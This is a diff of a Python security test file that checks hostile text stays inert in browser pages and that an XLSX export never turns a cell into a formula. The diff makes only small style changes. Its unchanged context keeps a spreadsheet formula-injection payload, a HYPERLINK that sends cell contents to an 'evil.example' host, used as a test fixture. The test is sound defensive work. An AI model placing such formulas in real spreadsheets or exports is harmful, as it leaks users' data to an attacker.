@@ -1,5 +1,6 @@
 """In Chromium: hostile text stays text on /cases and /wall, pages run under the CSP without a
-violation; in the XLSX report no cell becomes a formula."""
+violation; in the XLSX report no cell becomes a formula.
+"""
 from io import BytesIO
 
 import pytest
@@ -11,13 +12,13 @@ from sqlalchemy import update
 
 from data.models import Incident
 from tests.auth_helpers import login_browser
+from tests.clock import SESSION_NOW
 from tests.dash_helpers import start_app
 from tests.security_world import XSS, build_security_world, drop_security_world
 from tests.test_workflow_whistles import plan
 from tests.workflow_world import PASSWORD, make_incident
 from workflow.accounts import load_actor
 from workflow.whistles.service import blow_whistle
-from tests.clock import SESSION_NOW
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
 
@@ -42,7 +43,7 @@ def sw(server_settings):
 
 def no_alert(driver) -> bool:
     try:
-        driver.switch_to.alert
+        _ = driver.switch_to.alert
     except NoAlertPresentException:
         return True
     return False
